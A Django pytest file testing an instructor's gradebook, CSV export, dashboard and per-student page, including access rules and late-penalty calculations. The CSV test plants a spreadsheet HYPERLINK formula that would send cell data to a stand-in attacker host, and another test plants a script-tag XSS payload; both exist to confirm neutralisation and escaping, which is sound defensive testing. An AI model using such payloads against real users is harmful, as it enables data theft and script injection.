"""The instructors' cohort reports: gradebook (page and CSV), dashboard, a student's page."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import datetime, timedelta
from decimal import Decimal

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from taller.accounts.models import User
from taller.accounts.roles import Role
from taller.cohorts.models import Cohort
from taller.courses.models import Exercise
from taller.submissions.models import Submission
from tests.factories import (
    CohortExerciseFactory,
    CohortFactory,
    EnrollmentFactory,
    ExerciseFactory,
    SubmissionFactory,
    TestResultFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

# What the pages write: an en dash in ranges, a minus sign before a penalty.
DASH, MINUS = "\u2013", "\u2212"
DEADLINE = timezone.now().replace(microsecond=0) - timedelta(days=10)


@dataclass
class World:
    cohort: Cohort
    exercise: Exercise
    other: Exercise  # no deadline
    teacher: User
    ana: User
    beto: User


@pytest.fixture
def world() -> World:
    cohort = CohortFactory(late_penalty_percent_per_day=Decimal("10"), late_days_accepted=3)
    exercise, other = ExerciseFactory(), ExerciseFactory()
    CohortExerciseFactory(cohort=cohort, exercise=exercise, deadline=DEADLINE)
    teacher = UserFactory(role=Role.INSTRUCTOR)
    cohort.instructors.add(teacher)
    ana = UserFactory(username="ana", first_name="Ana", last_name="Pérez")
    beto = UserFactory(username="beto", first_name="Beto")
    for student in (ana, beto):
        EnrollmentFactory(cohort=cohort, student=student)
    return World(cohort, exercise, other, teacher, ana, beto)


def submit(
    world: World,
    student: User,
    score: float | None,
    at: datetime,
    *,
    exercise: Exercise | None = None,
    status: str | None = None,
    **kwargs: object,
) -> Submission:
    submission = SubmissionFactory(
        student=student,
        exercise=exercise or world.exercise,
        cohort=world.cohort,
        score=score,
        max_score=10,
        status=status or ("passed" if score == 10 else "failed"),
        **kwargs,
    )
    # submitted_at is set on creation; tests need it in the past.
    Submission.objects.filter(pk=submission.pk).update(submitted_at=at)
    submission.refresh_from_db()
    return submission


def signed_in(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html))


PAGES = ["calificaciones/", "calificaciones.csv", "panel/", "estudiantes/{ana}/"]


@pytest.mark.parametrize("page", PAGES)
def test_only_the_cohorts_staff_see_its_reports(world: World, page: str) -> None:
    url = f"/docencia/cohortes/{world.cohort.pk}/" + page.format(ana=world.ana.pk)
    anonymous = Client().get(url)
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/entrar/")
    assert signed_in(world.ana).get(url).status_code == 403
    assert signed_in(world.beto).get(url).status_code == 403
    stranger = UserFactory(role=Role.INSTRUCTOR)
    CohortFactory().instructors.add(stranger)
    assert signed_in(stranger).get(url).status_code == 404
    assert signed_in(world.teacher).get(url).status_code == 200
    assert signed_in(UserFactory(role=Role.ADMIN)).get(url).status_code == 200


def test_a_student_page_is_only_for_students_of_that_cohort(world: World) -> None:
    teacher = signed_in(world.teacher)
    outsider = UserFactory()
    EnrollmentFactory(student=outsider)
    base = f"/docencia/cohortes/{world.cohort.pk}/estudiantes/"
    assert teacher.get(f"{base}{outsider.pk}/").status_code == 404
    assert teacher.get(f"{base}{world.teacher.pk}/").status_code == 404
    assert teacher.get(f"{base}{2**70}/").status_code == 404


def test_the_cohort_page_links_to_its_reports(world: World) -> None:
    page = signed_in(world.teacher).get(f"/docencia/cohortes/{world.cohort.pk}/").content.decode()
    for url in ("calificaciones/", "panel/", "calificaciones.csv"):
        assert f'href="/docencia/cohortes/{world.cohort.pk}/{url}"' in page


def test_the_gradebook_applies_the_late_policy_and_shows_each_penalty(world: World) -> None:
    # ana: 6 on time, then 10 two days late → 8 beats 6.
    submit(world, world.ana, 6, DEADLINE - timedelta(hours=1))
    submit(world, world.ana, 10, DEADLINE + timedelta(days=1, hours=2))
    # beto: 10 five days late is not accepted; his 3 on time counts.
    submit(world, world.beto, 3, DEADLINE - timedelta(days=1))
    submit(world, world.beto, 10, DEADLINE + timedelta(days=5))
    # Without a deadline nothing is late; an internal error is no score.
    submit(world, world.ana, 7, timezone.now(), exercise=world.other)
    submit(world, world.beto, 10, timezone.now(), exercise=world.other, status="internal-error")

    response = signed_in(world.teacher).get(f"/docencia/cohortes/{world.cohort.pk}/calificaciones/")
    html = response.content.decode()
    rows = {
        m.group(1): text_of(m.group(0))
        for m in re.finditer(r'<tr>\s*<th scope="row"><a href="[^"]*/(\d+)/">.*?</tr>', html, re.S)
    }
    ana, beto = rows[str(world.ana.pk)], rows[str(world.beto.pk)]
    assert f"8 / 10 10 bruto, {MINUS}20 % (2 días tarde)" in ana
    assert ana.strip().endswith("15")  # 8 + 7
    assert "3 / 10" in beto and "no aceptado" not in beto  # the on-time 3 counts
    assert "1 intento sin nota" in beto  # the internal error
    assert beto.strip().endswith("3")
    assert f'href="/docencia/cohortes/{world.cohort.pk}/estudiantes/{world.ana.pk}/"' in html


def test_a_lone_attempt_too_late_shows_that_it_was_not_accepted(world: World) -> None:
    submit(world, world.ana, 10, DEADLINE + timedelta(days=4))
    html = signed_in(world.teacher).get(f"/docencia/cohortes/{world.cohort.pk}/calificaciones/")
    assert "0 / 10 10 bruto, no aceptado (4 días tarde)" in text_of(html.content.decode())


def test_a_regrade_counts_at_its_original_attempts_time(world: World) -> None:
    late = submit(world, world.ana, 4, DEADLINE + timedelta(hours=5))
    submit(world, world.ana, 10, timezone.now(), regrade_of=late, attempt=late.attempt)
    on_time = submit(world, world.beto, 2, DEADLINE - timedelta(hours=5))
    submit(world, world.beto, 10, timezone.now(), regrade_of=on_time, attempt=on_time.attempt)

    data = signed_in(world.teacher).get(f"/api/v1/cohorts/{world.cohort.pk}/gradebook/").json()
    cells = {r["student"]["username"]: r["scores"][world.exercise.slug] for r in data["students"]}
    # ana's regrade is one day late like her attempt, not ten (it would count 0).
    assert cells["ana"] | {"attempts": None} == {
        "best_score": 9.0,
        "max_score": 10.0,
        "attempts": None,
        "late": True,
        "raw_score": 10.0,
        "days_late": 1,
        "penalty_percent": 10.0,
        "accepted": True,
        "best_raw_score": 10.0,
    }
    assert cells["ana"]["attempts"] == 1  # a regrade is no attempt
    # beto's on-time attempt regraded after the deadline stays on time.
    assert cells["beto"]["best_score"] == 10 and cells["beto"]["late"] is False


def test_the_csv_has_effective_raw_and_penalty_per_exercise(world: World) -> None:
    world.ana.first_name = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    world.ana.save()
    submit(world, world.ana, 10, DEADLINE + timedelta(hours=30))
    submit(world, world.beto, 5, DEADLINE - timedelta(hours=1))
    submit(world, world.beto, 7.5, timezone.now(), exercise=world.other)

    response = signed_in(world.teacher).get(
        f"/docencia/cohortes/{world.cohort.pk}/calificaciones.csv"
    )
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert re.search(r'filename="calificaciones-cohorte-\d+\.csv"', response["Content-Disposition"])
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    ex, other = world.exercise.slug, world.other.slug
    assert lines[0] == [
        "usuario",
        "nombre",
        "email",
        ex,
        f"{ex} bruto",
        f"{ex} penalización %",
        other,
        f"{other} bruto",
        f"{other} penalización %",
        "total",
    ]
    rows = {line[0]: line for line in lines[1:]}
    assert set(rows) == {"ana", "beto"}
    # The name is kept, but as text: no spreadsheet runs it as a formula.
    assert rows["ana"][1].startswith("'=HYPERLINK(")
    assert rows["ana"][2] == world.ana.email
    assert rows["ana"][3:] == ["8", "10", "20", "", "", "", "8"]
    assert rows["beto"][3:] == ["5", "5", "0", "7.5", "7.5", "0", "12.5"]


def test_the_dashboard_counts_attempts_passes_scores_and_failing_tests(world: World) -> None:
    carla = UserFactory(username="carla")
    EnrollmentFactory(cohort=world.cohort, student=carla)
    early = DEADLINE - timedelta(days=3)
    # ana: failed "login" first, then full marks: passed, and "login" no longer fails.
    first = submit(world, world.ana, 5, early)
    TestResultFactory(submission=first, name="login", status="failed", score=0)
    latest = submit(world, world.ana, 10, early + timedelta(hours=1))
    TestResultFactory(submission=latest, name="login", status="passed")
    # beto: half marks; "login" and "logout" fail in his latest run.
    beto = submit(world, world.beto, 5, early)
    TestResultFactory(submission=beto, name="login", status="failed", score=0)
    TestResultFactory(submission=beto, name="logout", status="failed", score=0)
    # carla: only an internal error: attempted, no score.
    submit(world, carla, None, early, status="internal-error")

    response = signed_in(world.teacher).get(f"/docencia/cohortes/{world.cohort.pk}/panel/")
    html = response.content.decode()
    summary = re.search(rf'href="#ejercicio-{world.exercise.slug}">.*?</tr>', html, re.S).group(0)
    assert re.search(r'data-stat="attempted">3 / 3<', summary)
    assert re.search(r'data-stat="passed">1 / 3<', summary)
    section = html.split(f'id="ejercicio-{world.exercise.slug}"', 1)[1].split("</section>")[0]
    # The chart, for a screen reader and as a table.
    assert '<svg class="histogram"' in section and 'role="img"' in section
    bins = ["0{}20 %: 0", "20{}40 %: 0", "40{}60 %: 1", "60{}80 %: 0", "80{}100 %: 0"]
    assert "; ".join(b.format(DASH) for b in bins) + "; 100 %: 1" in section
    table = text_of(section.split('class="data histogram-data"')[1].split("</table>")[0])
    assert f"40{DASH}60 % 1" in table and "100 % 1" in table
    assert section.count('<rect class="histogram-bar') == 6
    failing = text_of(section.split('class="data failing-tests"')[1].split("</table>")[0])
    assert "login 1 de 2" in failing and "logout 1 de 1" in failing
    # The other exercise: nobody tried it.
    other = html.split(f'id="ejercicio-{world.other.slug}"', 1)[1].split("</section>")[0]
    assert "Nadie tiene nota todavía." in other and "<svg" not in other


def test_a_students_page_shows_every_attempt_with_its_code_escaped(world: World) -> None:
    code = "// </code></pre><script>alert('hola')</script>\nconst x = 1 < 2;\n"
    late = submit(
        world, world.ana, 6, DEADLINE + timedelta(hours=2), files={"server.js": code}, attempt=1
    )
    TestResultFactory(submission=late, name="responde 200", status="passed", score=6, max_score=6)
    TestResultFactory(
        submission=late,
        name="caso secreto",
        status="failed",
        score=0,
        max_score=4,
        visibility="hidden",
        output="esperaba 404",
    )
    submit(world, world.ana, 10, timezone.now(), regrade_of=late, attempt=1)
    submit(world, world.beto, 10, DEADLINE)  # someone else's attempt is not on her page

    html = (
        signed_in(world.teacher)
        .get(f"/docencia/cohortes/{world.cohort.pk}/estudiantes/{world.ana.pk}/")
        .content.decode()
    )
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#x27;hola&#x27;)&lt;/script&gt;" in html
    assert "1 &lt; 2" in html
    text = text_of(html)
    assert "Intento 1" in text and "Recalificación del intento 1" in text
    # The regrade right after its original, both late by one day (the original's time).
    assert text.index("Intento 1") < text.index("Recalificación del intento 1")
    assert text.count("tarde") >= 2 and "cuenta 5,4" in text and "cuenta 9" in text
    # Hidden tests and their output are for the staff to see.
    assert "caso secreto oculta" in text and "esperaba 404" in html
    assert text.count("Intento ") == 1  # beto's attempt is not here
    assert "Sin intentos." in text  # the other exercise
    # The original attempt can be regraded from here, and its history opened; the
    # regrade itself offers neither (it is regraded through its original).
    assert html.count('action="/docencia/envios/') == 1
    assert f'action="/docencia/envios/{late.pk}/recalificar/"' in html
    assert f'href="/docencia/envios/{late.pk}/"' in html


def test_the_reports_take_the_same_queries_for_2_students_or_30(
    world: World, django_assert_max_num_queries
) -> None:
    client = signed_in(world.teacher)
    base = f"/docencia/cohortes/{world.cohort.pk}/"
    pages = ["calificaciones/", "calificaciones.csv", "panel/"]

    def populate(student: User, i: int) -> None:
        original = submit(world, student, i % 11, DEADLINE + timedelta(hours=i))
        TestResultFactory(submission=original, name="login", status="failed", score=0)
        submit(world, student, 10, timezone.now(), regrade_of=original, attempt=original.attempt)
        submit(world, student, 5, DEADLINE, exercise=world.other)

    populate(world.ana, 1)
    populate(world.beto, 2)
    few = {}
    for page in pages:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(base + page).status_code == 200
        few[page] = len(queries)
    for i in range(28):
        student = UserFactory()
        EnrollmentFactory(cohort=world.cohort, student=student)
        populate(student, i)
    for page in pages:
        with django_assert_max_num_queries(few[page]):
            assert client.get(base + page).status_code == 200
